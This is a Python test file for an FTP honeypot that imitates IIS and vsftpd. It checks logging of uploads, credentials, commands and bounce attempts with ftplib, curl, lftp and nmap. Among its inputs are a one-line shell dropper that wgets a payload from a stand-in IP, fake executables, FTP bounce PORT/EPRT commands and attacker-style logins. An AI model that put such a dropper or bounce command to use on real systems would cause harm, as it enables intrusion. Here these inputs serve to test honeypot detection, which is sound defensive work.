"""FTP end to end: ftplib (active, passive), curl (upload, download, EPSV, FTPS), lftp, nmap."""

from __future__ import annotations

import ftplib
import hashlib
import io
import json
import random
import socket
import subprocess
import time
from pathlib import Path

from tests.conftest import only


def ftp_config(preset: str, **extra) -> dict:
    low = random.randrange(40000, 47000)
    body = {"tcp_ports": [21], "passive_ports": [low, low + 999], **extra}
    return only({"ftp": body}, persona={"preset": preset})


def payload(tag: str, size: int = 3000) -> bytes:
    seed = hashlib.sha256(tag.encode()).digest()
    return (b"MZ\x90\x00" + seed * (size // 32 + 1))[:size]


def md5(data: bytes) -> str:
    return hashlib.md5(data).hexdigest()


def run(cmd: list[str], **kw) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(cmd, capture_output=True, timeout=60, **kw)


def ftplib_session(port: int, passive: bool, data: bytes, name: str) -> list[str]:
    f = ftplib.FTP()
    f.connect("127.0.0.1", port, timeout=10)
    f.login("administrator", f"Winter{int(passive)}!")
    f.set_pasv(passive)
    f.storbinary(f"STOR {name}", io.BytesIO(data))
    lines: list[str] = []
    f.retrlines("LIST", lines.append)
    got = io.BytesIO()
    f.retrbinary(f"RETR {name}", got.write)
    assert got.getvalue() == data  # served back from the session's view
    f.quit()
    return lines


def nmap(port: int) -> str:
    out = run(["nmap", "-Pn", "-n", "-sV", "--version-all", "-p", str(port),
               "--script", "ftp-anon,ftp-syst", "127.0.0.1"])
    assert out.returncode == 0, out.stderr
    return out.stdout.decode()


def assert_stored(hp, uploads: dict[str, bytes]) -> None:
    """Every upload is in the store under its md5, with downloads/offers rows and JSON."""
    binaries = hp.state / "binaries"
    downloads = hp.rows("SELECT download_url, download_md5_hash FROM downloads")
    offers = {u for (u,) in hp.rows("SELECT offer_url FROM offers")}
    lines = hp.json_lines()
    json_downloads = [d for line in lines for d in line.get("downloads", [])]
    for name, data in uploads.items():
        digest = md5(data)
        assert (binaries / digest).read_bytes() == data, name
        urls = [u for u, h in downloads if h == digest]
        assert any(u.startswith("ftp://") and u.endswith("/" + name) for u in urls), name
        assert set(urls) <= offers, name
        assert any(d["md5"] == digest and d["url"].endswith(name) for d in json_downloads)


def test_windows_persona_clients_and_nmap(honeypot_factory, tmp_path: Path):
    hp = honeypot_factory(ftp_config("windows-2008r2"))
    port = hp.port(21)

    scan = nmap(port)
    assert "Microsoft ftpd" in scan and "Anonymous FTP login allowed" in scan
    assert "SYST: Windows_NT" in scan
    assert "honeypot" not in scan.lower() and "dionaea" not in scan.lower()

    uploads: dict[str, bytes] = {}
    for passive in (True, False):
        name = f"ftplib{int(passive)}.exe"
        uploads[name] = payload(name)
        listing = ftplib_session(port, passive, uploads[name], name)
        assert any(line.endswith(f" {name}") and "  3000 " in line for line in listing)
        assert any("<DIR>" in line and line.endswith(" Public") for line in listing)

    # curl: upload (EPSV), download via PASV and active EPRT, FTPS with PROT P
    src = tmp_path / "curl.bin"
    uploads["curl.bin"] = payload("curl")
    src.write_bytes(uploads["curl.bin"])
    out = run(["curl", "-sS", "-T", str(src), f"ftp://bob:builder@127.0.0.1:{port}/Upload/"])
    assert out.returncode == 0, out.stderr
    out = run(["curl", "-sS", "--disable-epsv", f"ftp://bob:x@127.0.0.1:{port}/Public/readme.txt"])
    assert out.returncode == 0 and b"Upload to the Upload folder" in out.stdout, out.stderr
    out = run(["curl", "-sS", "-P", "-", f"ftp://bob:x@127.0.0.1:{port}/public/README.TXT"])
    assert out.returncode == 0 and b"Upload to the Upload folder" in out.stdout, out.stderr
    tls_src = tmp_path / "tls.bin"
    uploads["tls.bin"] = payload("tls", 70000)
    tls_src.write_bytes(uploads["tls.bin"])
    out = run(["curl", "-sS", "--ssl-reqd", "-k", "-T", str(tls_src),
               f"ftp://eve:secret@127.0.0.1:{port}/"])
    assert out.returncode == 0, out.stderr
    out = run(["curl", "-sS", "-v", "--ssl-reqd", "-k", f"ftp://eve:secret@127.0.0.1:{port}/"])
    assert out.returncode == 0, out.stderr
    assert b"< 234 AUTH command ok. Expecting TLS Negotiation." in out.stderr
    assert b"< 200 PROT command successful." in out.stderr
    assert b"<DIR>          Backup" in out.stdout

    # lftp: put and mirror -R (over AUTH TLS, lftp's default), then mirror down
    tree = tmp_path / "tree"
    (tree / "sub").mkdir(parents=True)
    uploads["a.txt"] = b"alpha\n"
    uploads["b.sh"] = b"#!/bin/sh\nwget http://198.51.100.7/x\n"
    (tree / "a.txt").write_bytes(uploads["a.txt"])
    (tree / "sub" / "b.sh").write_bytes(uploads["b.sh"])
    lput = tmp_path / "lftp.bin"
    uploads["lftp.bin"] = payload("lftp")
    lput.write_bytes(uploads["lftp.bin"])
    down = tmp_path / "down"
    script = (f"set ssl:verify-certificate no; put {lput}; mirror -R {tree} tree; "
              f"cls -1 tree/sub; mirror Public {down}; bye")
    out = run(["lftp", "-p", str(port), "-u", "mallory,pw", "-e", script, "127.0.0.1"])
    assert out.returncode == 0, out.stderr
    assert b"b.sh" in out.stdout
    assert b"Upload to the Upload folder" in (down / "readme.txt").read_bytes()
    assert hp.stop() == 0

    assert_stored(hp, uploads)
    logins = hp.rows("SELECT login_username, login_password FROM logins")
    assert ("administrator", "Winter1!") in logins and ("administrator", "Winter0!") in logins
    assert ("eve", "secret") in logins and ("mallory", "pw") in logins
    commands = hp.rows("SELECT ftp_command_command, ftp_command_arguments FROM ftp_commands")
    verbs = {c for c, _ in commands}
    assert {"USER", "PASS", "PASV", "PORT", "EPSV", "EPRT", "STOR", "RETR", "LIST", "AUTH",
            "PBSZ", "PROT", "MKD"} <= verbs
    assert ("STOR", '["ftplib1.exe"]') in commands
    # data connections are child rows of their control connection
    children = hp.rows("SELECT c.connection_parent, p.local_port FROM connections c JOIN "
                       "connections p ON p.connection = c.connection_parent")
    assert children and all(parent_port == port for _, parent_port in children)
    lines = hp.json_lines()
    ftp_lines = [line for line in lines if "ftp" in line]
    commands_json = [c for line in ftp_lines for c in line["ftp"]["commands"]]
    assert {"command": "STOR", "arguments": ["ftplib1.exe"]} in commands_json
    assert {"command": "USER", "arguments": ["mallory"]} in commands_json
    assert all(line["connection"]["protocol"] == "ftpd" for line in ftp_lines)
    assert any(c.get("username") == "eve" for line in lines for c in line.get("credentials", []))


def test_debian_persona_vsftpd_clients_and_nmap(honeypot_factory, tmp_path: Path):
    hp = honeypot_factory(ftp_config("debian-12"))
    port = hp.port(21)
    scan = nmap(port)
    assert "vsftpd 3.0.3" in scan and "Anonymous FTP login allowed" in scan
    assert "honeypot" not in scan.lower() and "dionaea" not in scan.lower()
    uploads = {}
    for passive in (True, False):
        name = f"up{int(passive)}.elf"
        uploads[name] = payload(name)
        listing = ftplib_session(port, passive, uploads[name], name)
        assert any(line.startswith("-rw-r--r--") and line.endswith(name) for line in listing)
    src = tmp_path / "c.bin"
    uploads["c.bin"] = payload("c")
    src.write_bytes(uploads["c.bin"])
    out = run(["curl", "-sS", "-v", "--ssl-reqd", "-k", "-T", str(src),
               f"ftp://root:toor@127.0.0.1:{port}/upload/"])
    assert out.returncode == 0, out.stderr
    assert b"< 220 (vsFTPd 3.0.3)" in out.stderr and b"< 200 PROT now Private." in out.stderr
    out = run(["lftp", "-p", str(port), "-u", "root,toor", "-e",
               f"set ssl:verify-certificate no; put {src} -o again.bin; ls; bye", "127.0.0.1"])
    assert out.returncode == 0 and b" again.bin" in out.stdout, out.stderr
    hp.stop()
    assert_stored(hp, uploads)


def exchange(sock: socket.socket, data: bytes, wait: float = 0.3) -> bytes:
    sock.sendall(data)
    time.sleep(wait)
    sock.settimeout(2)
    chunks = []
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            chunks.append(chunk)
            sock.settimeout(0.2)
    except TimeoutError:
        pass
    return b"".join(chunks)


def test_bad_input_bounce_and_refuse_first_policy(honeypot_factory):
    cfg = ftp_config("debian-12", max_line=512,
                     login={"policy": "refuse_first", "refuse_first": 2})
    hp = honeypot_factory(cfg)
    port = hp.port(21)

    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        assert s.recv(100) == b"220 (vsFTPd 3.0.3)\r\n"
        assert exchange(s, b"\x00\x9c\xfe junk\r\n") == (
            b"530 Please login with USER and PASS.\r\n")
        # refused twice (counted per address), third try in a new connection succeeds
        got = exchange(s, b"USER root\r\nPASS a\r\nUSER root\r\nPASS b\r\n")
        assert got.count(b"530 Login incorrect.") == 2
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.recv(100)
        got = exchange(s, b"USER root\r\nPASS c\r\n\xff\xf4\xff\xf2ABOR\r\n"
                          b"PORT 192,0,2,1,7,208\r\nEPRT |1|127.0.0.1|21|\r\n")
        assert got == (b"331 Please specify the password.\r\n230 Login successful.\r\n"
                       b"225 No transfer to ABOR.\r\n500 Illegal PORT command.\r\n"
                       b"500 Illegal EPRT command.\r\n")
        got = exchange(s, b"NOOP " + b"A" * 600 + b"\r\n")
        assert got == b"500 Input line too long.\r\n"
        assert exchange(s, b"NOOP\r\n") == b""  # closed, as vsftpd does
    hp.stop()
    logins = hp.rows("SELECT login_username, login_password FROM logins ORDER BY login")
    assert logins == [("root", "a"), ("root", "b"), ("root", "c")]
    bounces = [b for line in hp.json_lines() for b in line.get("ftp", {}).get("bounces", [])]
    assert {(b["command"], b["host"]) for b in bounces} == {("PORT", "192.0.2.1"),
                                                            ("EPRT", "127.0.0.1")}
    junk = hp.rows("SELECT ftp_command_command FROM ftp_commands WHERE "
                   "ftp_command_command LIKE '%junk%' OR ftp_command_arguments LIKE '%junk%'")
    assert junk


def test_iis_answers_telnet_and_long_lines_and_stays_open(honeypot_factory):
    hp = honeypot_factory(ftp_config("windows-2008r2", max_line=256))
    with socket.create_connection(("127.0.0.1", hp.port(21)), timeout=5) as s:
        assert s.recv(100) == b"220 Microsoft FTP Service\r\n"
        got = exchange(s, b"\xff\xfb\x18SY\xff\xf1ST\r\nXYZ " + b"Q" * 400 + b"\r\nNOOP\r\n")
        assert got == (b"215 Windows_NT\r\n501 Syntax error in parameters or arguments.\r\n"
                       b"200 NOOP command successful.\r\n")
    hp.stop()
    lines = [line for line in hp.json_lines() if "ftp" in line]
    assert [c["command"] for c in lines[0]["ftp"]["commands"]] == ["SYST", "NOOP"]
    assert json.dumps(lines[0])  # plain JSON all the way down
